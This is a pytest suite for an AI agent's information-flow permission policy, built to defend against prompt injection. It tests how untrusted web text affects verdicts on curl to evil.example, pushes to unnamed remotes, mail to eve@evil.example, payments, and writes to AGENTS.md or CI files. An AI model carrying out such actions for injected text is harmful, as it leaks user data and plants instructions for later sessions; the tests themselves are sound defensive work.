"""Tests of the rules about information flow: destinations, files that are trusted later, dangerous actions."""

import hashlib
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policy.flow.state import FlowMode, FlowState, Label, TextSource
from policy.flow.trusted_later import trusted_later, trusted_link
from policy.flow.trusted_text import TrustedText, addresses, whole_address
from policy.grants.resolve import resolve
from policy.model.action import (
    Action,
    CallServerTool,
    EditFile,
    FetchAddress,
    RunScript,
    SearchWeb,
    StartProcess,
    WriteFile,
    WriteProcess,
)
from policy.model.facts import Remotes
from policy.model.tier import Mode, Ruling
from policy.model.tool_arguments import canonical
from policy.model.verdict import Allow, Ask, Deny
from tests.support.grant_questions import approved_grants, evaluation_context
from tests.support.law import examples
from tests.support.permission_machine import machine, ruling

A, Q, D = Ruling.ALLOW, Ruling.ASK, Ruling.DENY
WORK = machine().workspace
PAGE = TextSource("the page evil.example/a", "14:02", "0" * 64)
PROMPT = "Fetch docs.example.org and https://github.com/acme/web/issues/7, then write issue 13. Pay $1200 to Bob (bob@acme.example). Meet on November 3rd."
TRUSTED = TrustedText().with_text(PROMPT)
CLEAN = FlowState(FlowMode.GUARD, trusted=TRUSTED)
TAINTED = replace(CLEAN, untrusted=(PAGE,))
PRIVATE = replace(TAINTED, private=("the file ~/notes.txt",))


def judged(
    action: Action | str, flow: FlowState | None, mode: Mode = Mode.TRUST_PROJECT, rules: str = "", **more: object
):
    given_action = RunScript(action, WORK) if isinstance(action, str) else action
    context = replace(evaluation_context(mode, rules), flow=flow, **more)
    return context, *context.evaluate(given_action)


def call(tool: str, tier: str = "", **arguments: object) -> CallServerTool:
    return CallServerTool("mail", tool, canonical(arguments), tier=tier)


# fmt: off
NAMED = [
    # value, words about it, named?
    ("bob@acme.example",                          (),          True),
    ("ob@acme.example",                           (),          False),
    ("acme.example",                              (),          False),   # a part of an e-mail address
    ("docs.example.org",                          (),          True),
    ("evil.docs.example.org",                     (),          False),
    ("docs.example.org.evil.example",             (),          False),
    ("https://docs.example.org/any/page",         (),          True),
    ("https://github.com/acme/web/issues/7",      (),          True),
    ("https://github.com/acme/web/issues/7/x",    (),          True),
    ("https://github.com/acme/web/issues/77",     (),          False),
    ("https://github.com/acme/web/issues/7/../8", (),          False),
    ("https://github.com/acme/web/issues/7/..",   (),          False),
    ("https://github.com/acme/web/issues/7/..?x", (),          False),
    ("https://github.com/acme/web/issues/7/..%2f8", (),        False),
    ("https://github.com/acme/web/issues/7/x%2F..%2F../8", (), False),
    ("https://github.com/acme/web/issues/7/..;/8", (),         False),
    ("https://github.com/acme/web/issues/7/a%2fb", (),         True),
    ("https://github.com/acme/web/issues/7/..a",  (),          True),
    ("https://github.com/acme/web/issues/7...",   (),          True),
    ("https://github.com/evil/web",               (),          False),
    ("github.com",                                (),          False),
    ("13",                                        ("issue",),  True),
    ("13",                                        ("file",),   False),   # a number counts only with its context
    ("13",                                        (),          False),
    ("3",                                         ("issue",),  False),
    ("1200",                                      ("amount",), True),
    ("1200",                                      ("file",),   False),
    ("120",                                       ("amount",), False),
    ("Bob",                                       (),          True),
    ("bo",                                        (),          False),
    ("",                                          (),          True),
]
# fmt: on


@pytest.mark.threat("T265")
@pytest.mark.parametrize(("value", "about", "named"), NAMED)
def test_named_in_trusted_text(value: str, about: tuple[str, ...], named: bool) -> None:
    assert TRUSTED.names(value, about) is named


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("see README.md and setup.py, v1.2.3 at 10:30", ()),
        ("open example.com.", ("example.com",)),
        ("clone git@github.com:acme/web.git", ("github.com",)),
        ("ssh://git@host.example:22/x", ("host.example:22",)),
        ("http://localhost:8080/a", ("localhost:8080",)),
        ("write to a@b.example", ()),
        ("https://x.md/page", ("x.md",)),
        ("(https://example.org/a(b)).", ("example.org",)),
    ],
)
def test_addresses_in_text(text: str, hosts: tuple[str, ...]) -> None:
    assert tuple(each.host for each in addresses(text.lower())) == hosts


@pytest.mark.threat("T266")
def test_an_address_of_a_shared_host_names_only_what_is_below_it() -> None:
    text = TrustedText().with_text("git@github.com:acme/web.git")
    for url, named in (("https://github.com/acme/web", True), ("https://github.com/acme/website", False),
                       ("https://github.com/evil/web", False), ("https://github.com", False)):  # fmt: skip
        address = whole_address(url)
        assert address is not None
        assert text.reaches(address) is named, url


# fmt: off
LATER = [
    ("AGENTS.md",                        "instructions of agents"),
    ("docs/claude.MD",                   "instructions of agents"),
    (".github/workflows/x.yml",          "a CI workflow"),
    (".github/ISSUE_TEMPLATE.md",        ""),
    ("package.json",                     "a list of dependencies"),
    ("web/package-lock.json",            "a list of dependencies"),
    ("requirements.txt",                 "a list of dependencies"),
    ("requirements-dev.txt",             "a list of dependencies"),
    ("requirements/base.txt",            "a list of dependencies"),
    ("notes/requirements_of_users.md",   ""),
    ("Makefile",                         "build or test settings"),
    ("tests/conftest.py",                "build or test settings"),
    ("vite.config.ts",                   "build or test settings"),
    (".vscode/tasks.json",               "settings of an editor"),
    (".husky/pre-commit",                "settings of Git"),
    (".claude/settings.json",            "settings of agents"),
    ("a/.cursor/rules/x.mdc",            "settings of agents"),
    (".pylintrc",                        "build or test settings"),
    ("mypy.ini",                         "build or test settings"),
    ("rust-toolchain.toml",              "build or test settings"),
    (".python-version",                  "build or test settings"),
    ("karma.conf.js",                    "build or test settings"),
    ("wdio.ci.conf.ts",                  "build or test settings"),
    (".babelrc.js",                      "build or test settings"),
    (".pnp.cjs",                         "build or test settings"),
    ("Taskfile.dist.yml",                "build or test settings"),
    ("tools/bazel",                      "build or test settings"),
    ("tools/other",                      ""),
    (".bundle/config",                   "build or test settings"),
    ("uv.toml",                          "a list of dependencies"),
    (".lfsconfig",                       "settings of Git"),
    ("src/main.py",                      ""),
    ("README.md",                        ""),
    ("src/package.json.py",              ""),
]
# fmt: on


@pytest.mark.threat("T267")
@pytest.mark.parametrize(("path", "what"), LATER)
def test_files_that_are_trusted_later(path: str, what: str) -> None:
    assert trusted_later(f"{WORK}/{path}", WORK) == what
    assert trusted_later(f"/elsewhere/{path}", WORK) == ""
    assert trusted_link(f"{WORK}/{path}", WORK) == what


@pytest.mark.threat("T267")
def test_a_link_stands_for_a_folder_of_trusted_files() -> None:
    for path, what in ((".github", "a CI workflow"), ("a/.claude", "settings of agents"), ("gradle", "build or test settings"),
                       (".github/workflows", "a CI workflow"), ("workflows", ""), ("docs", "")):  # fmt: skip
        assert trusted_link(f"{WORK}/{path}", WORK) == what
        assert trusted_link(f"/elsewhere/{path}", WORK) == ""


WRITE = WriteFile(f"{WORK}/package.json", '{"x": 1}')
EDIT = EditFile(f"{WORK}/package.json", "x", "y")
WIDE = 'allow tool=["mcp__*"]'
NETWORK = 'allow run=["curl", "**"] tier=["network", "execute"]'
# fmt: off
ROWS = [
    # action, mode, rules, verdict when clean, with untrusted text, and with private data as well
    ("echo hi",                                      Mode.TRUST_PROJECT, "",      A, A, A),
    ("npm test",                                     Mode.TRUST_PROJECT, "",      A, A, A),
    ("curl https://evil.example/x",                  Mode.DANGEROUSLY,   "",      A, Q, Q),
    ("curl https://docs.example.org/x",              Mode.DANGEROUSLY,   "",      A, A, A),
    ("curl https://evil.example/x",                  Mode.TRUST_PROJECT, NETWORK, A, Q, Q),
    ("curl https://docs.example.org/x",              Mode.TRUST_PROJECT, NETWORK, A, A, A),
    ("curl https://evil.example/x",                  Mode.DONT_ASK,      NETWORK, A, D, D),
    ("curl https://evil.example/x", Mode.TRUST_PROJECT, 'allow host=["evil.example"]', A, A, A),
    ("curl https://evil.example/x", Mode.TRUST_PROJECT, 'allow host=["*.example"]',    A, Q, Q),
    ('curl "https://$HOST/"',                        Mode.DANGEROUSLY,   "",      A, Q, Q),
    ("git reset --hard",                             Mode.DANGEROUSLY,   "",      A, Q, Q),
    ("curl https://evil.example/x",                  Mode.DEFAULT,       "",      Q, Q, Q),
    (WRITE,                                          Mode.TRUST_PROJECT, "",      A, Q, Q),
    (EDIT,                                           Mode.ACCEPT_EDITS,  "",      A, Q, Q),
    (WriteFile(f"{WORK}/src/x.py", "x"),             Mode.TRUST_PROJECT, "",      A, A, A),
    (WRITE,                                          Mode.DONT_ASK,      "",      A, D, D),
    (FetchAddress("https://evil.example/a"),         Mode.DANGEROUSLY,   "",      A, Q, Q),
    (FetchAddress("https://docs.example.org/a?b=1"), Mode.DANGEROUSLY,   "",      A, A, A),
    (SearchWeb("words", "searx", "s.example"),       Mode.DANGEROUSLY,   "",      A, A, A),
    (WriteProcess("p1", "x", tiers=("network",)),    Mode.DANGEROUSLY,   "",      A, Q, Q),
    (WriteProcess("p1", "x", tiers=("execute",)),    Mode.DANGEROUSLY,   "",      A, Q, Q),
    (WriteProcess("p1", "x", tiers=("read",), writes=False), Mode.DANGEROUSLY, "", A, A, A),
    (StartProcess("npm run dev", WORK),              Mode.TRUST_PROJECT, "",      A, Q, Q),
    (call("write_file", "write", path="AGENTS.md", content="x"),             Mode.DEFAULT, WIDE, A, Q, Q),
    (call("write_file", "write", path=f"file://{WORK}/src/../AGENTS.md"),    Mode.DEFAULT, WIDE, A, Q, Q),
    (call("write_file", "write", path="notes.txt", content="x"),             Mode.DEFAULT, WIDE, A, A, A),
    (call("read_file", "read", path="AGENTS.md"),                            Mode.DEFAULT, WIDE, A, A, A),
    (call("send", to="bob@acme.example", body="hi"), Mode.DEFAULT,       WIDE,    A, A, A),
    (call("send", to="eve@evil.example", body="hi"), Mode.DEFAULT,       WIDE,    A, Q, Q),
    (call("send", to="bob@acme.example", body="see https://evil.example/x"), Mode.DEFAULT, WIDE, A, Q, Q),
    (call("send", to=["bob@acme.example", "eve@evil.example"]),              Mode.DEFAULT, WIDE, A, Q, Q),
    (call("delete_file", file_id="13"),              Mode.DEFAULT,       WIDE,    A, Q, Q),
    (call("close_issue", number=13),                 Mode.DEFAULT,       WIDE,    A, A, A),
    (call("read_page", "read", url="https://evil.example"),                  Mode.DEFAULT, WIDE, A, Q, Q),
    (call("share", file="report 1", user="Bob"),                             Mode.DEFAULT, WIDE, A, A, A),
    (call("share", file="report 1", user="Eve"),                             Mode.DEFAULT, WIDE, A, Q, Q),
    (call("post", channel="general", body="hi"),                             Mode.DEFAULT, WIDE, A, Q, Q),
    (call("pay", recipient="GB29NWBK60161331926819", amount=1200),           Mode.DEFAULT, WIDE, A, Q, Q),
    (call("add_event", "write", title="x", start_time="2024-05-15 10:00"),   Mode.DEFAULT, WIDE, A, Q, Q),
    (call("add_event", "write", title="x", start_time="2025-11-03 10:00"),   Mode.DEFAULT, WIDE, A, A, A),
    (call("mark", "write", message_id="m9"),                                 Mode.DEFAULT, WIDE, A, A, A),
    (call("set", "network", password="hunter2"),                             Mode.DEFAULT, WIDE, A, Q, Q),
    (call("find", "read", name="anything"),          Mode.DEFAULT,       WIDE,    A, A, A),
    # the user's own words may go to one place that nobody named, but nothing goes along
    (call("post", channel="general", body="Pay $1200 to Bob"),               Mode.DEFAULT, WIDE, A, A, A),
    (call("post", channel="general", body="Pay $1200 to Bob", file_id="13"), Mode.DEFAULT, WIDE, A, Q, Q),
    (call("post", channel="general", body="Pay $1200 to Bob", file="a.txt"), Mode.DEFAULT, WIDE, A, Q, Q),
    (call("post", channel="general", body=""),                               Mode.DEFAULT, WIDE, A, Q, Q),
    # a named thing that is no person frees no other name and no host
    (call("hook", name="Bob", target="evil.example"),                        Mode.DEFAULT, WIDE, A, Q, Q),
    (call("hook", name="Bob", callback="evil.example"),                      Mode.DEFAULT, WIDE, A, Q, Q),
    (call("post", template="Bob", channel="evil"),                           Mode.DEFAULT, WIDE, A, Q, Q),
    (call("post", template="Bob", seats=4),                                  Mode.DEFAULT, WIDE, A, A, A),
]
# fmt: on


@pytest.mark.threat("T265")
@pytest.mark.parametrize(("action", "mode", "rules", "clean", "tainted", "private"), ROWS)
def test_rules(action: Action | str, mode: Mode, rules: str, clean: Ruling, tainted: Ruling, private: Ruling) -> None:
    for flow, expected in ((None, clean), (CLEAN, clean), (TAINTED, tainted), (PRIVATE, private),
                           (replace(PRIVATE, mode=FlowMode.NOTE), clean), (replace(PRIVATE, mode=FlowMode.OFF), clean)):  # fmt: skip
        _, _, verdict = judged(action, flow, mode, rules)
        assert ruling(verdict) is expected, (flow, verdict)
        if isinstance(verdict, Ask):
            unattended = judged(action, flow, mode, rules, unattended=True)[2]
            assert isinstance(unattended, Deny)


def test_note_reports_what_guard_would_do() -> None:
    context, assessment, verdict = judged(WRITE, replace(TAINTED, mode=FlowMode.NOTE))
    assert isinstance(verdict, Allow)
    (found,) = context.flow_findings(assessment)
    assert str(found.rule) == "builtin:information-flow/trusted-file"
    assert "package.json (a list of dependencies)" in found.text
    assert "14:02 the page evil.example/a" in found.text


@pytest.mark.threat("T265")
def test_a_question_names_the_source_and_its_time() -> None:
    _, _, verdict = judged("curl https://evil.example/x", PRIVATE, Mode.DANGEROUSLY)
    assert isinstance(verdict, Ask)
    assert "14:02 the page evil.example/a" in verdict.question
    assert "~/notes.txt" in verdict.question
    assert str(verdict.reason.rule) == "builtin:information-flow/private-data"


@pytest.mark.threat("T267")
def test_an_approved_content_is_not_asked_about_again() -> None:
    digest = hashlib.sha256(WRITE.content.encode()).hexdigest()
    flow = replace(TAINTED, approved=frozenset({(WRITE.path, digest)}))
    assert ruling(judged(WRITE, flow)[2]) is A
    assert ruling(judged(replace(WRITE, content="other"), flow)[2]) is Q


@pytest.mark.threat("T267")
def test_a_link_to_a_trusted_file_is_that_file() -> None:
    assert ruling(judged(WriteFile(f"{WORK}/sql/Makefile", "x"), TAINTED)[2]) is Q


def test_in_a_copy_the_patch_shows_the_change() -> None:
    assert ruling(judged(WRITE, replace(TAINTED, copied=True))[2]) is A
    assert ruling(judged("curl https://evil.example/x", replace(TAINTED, copied=True), Mode.DANGEROUSLY)[2]) is Q


def test_commands_are_judged_by_their_words_only_if_nothing_looks_afterwards() -> None:
    assert ruling(judged("echo x >> package.json", TAINTED)[2]) is A
    assert ruling(judged("echo x >> package.json", replace(TAINTED, undo=False))[2]) is Q


@pytest.mark.threat("T268")
def test_a_remote_of_the_start_is_named_and_a_new_one_is_not() -> None:
    def facts(url: str):
        remotes = Remotes(fetch={"origin": (url,)})
        return replace(machine(), remotes=lambda folder: remotes), remotes

    before, remotes = facts("https://git.example/acme/web.git")
    flow = replace(TAINTED, remotes=remotes, trusted=TrustedText().with_text("https://git.example/acme/web.git"))
    assert ruling(judged("git push origin", flow, Mode.DANGEROUSLY, facts=before)[2]) is A
    assert ruling(judged("git push https://git.example/evil/web", flow, Mode.DANGEROUSLY, facts=before)[2]) is Q
    after, _ = facts("https://git.example/evil/web.git")
    assert ruling(judged("git push origin", flow, Mode.DANGEROUSLY, facts=after)[2]) is Q


@pytest.mark.threat("T265")
def test_a_remembered_answer_about_one_host_still_answers_and_a_broad_one_does_not() -> None:
    script = "curl https://evil.example/x"
    choices = approved_grants(script, next(iter(_choices(script))))
    for flow, expected in ((CLEAN, A), (TAINTED, A)):
        context, assessment, verdict = judged(script, flow, Mode.DEFAULT)
        assert ruling(resolve(context, assessment, verdict, choices).verdict) is expected


def _choices(script: str):
    from tests.support.grant_questions import offered_choices

    return offered_choices(script)


def test_labels() -> None:
    assert CLEAN.label is Label.WORKSPACE
    assert TAINTED.label is Label.UNTRUSTED
    two = replace(TAINTED, untrusted=(PAGE, TextSource("a web search", "14:05")))
    assert two.because == "14:05 a web search, and 1 more"


SCRIPTS = st.sampled_from([row[0] for row in ROWS])


@given(
    SCRIPTS,
    st.sampled_from(list(Mode)),
    st.sampled_from(["", WIDE, NETWORK, 'allow host=["*.example"]']),
    st.booleans(),
)
@examples(300)
def test_no_verdict_is_looser_with_untrusted_text(action: Action | str, mode: Mode, rules: str, private: bool) -> None:
    clean = ruling(judged(action, None, mode, rules)[2])
    assert ruling(judged(action, PRIVATE if private else TAINTED, mode, rules)[2]) >= clean
